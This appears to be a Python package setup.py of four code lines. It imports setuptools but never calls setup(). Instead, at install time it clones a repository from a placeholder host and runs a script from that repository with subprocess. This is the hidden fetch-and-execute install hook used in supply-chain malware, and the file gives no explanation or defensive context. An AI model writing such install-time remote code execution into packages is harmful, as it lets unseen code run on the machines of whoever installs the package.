import subprocess, git
from setuptools import setup
git.Repo.clone_from("https://github.example.invalid/a/b.git", "b")
subprocess.run(["python", "b/x.py"])
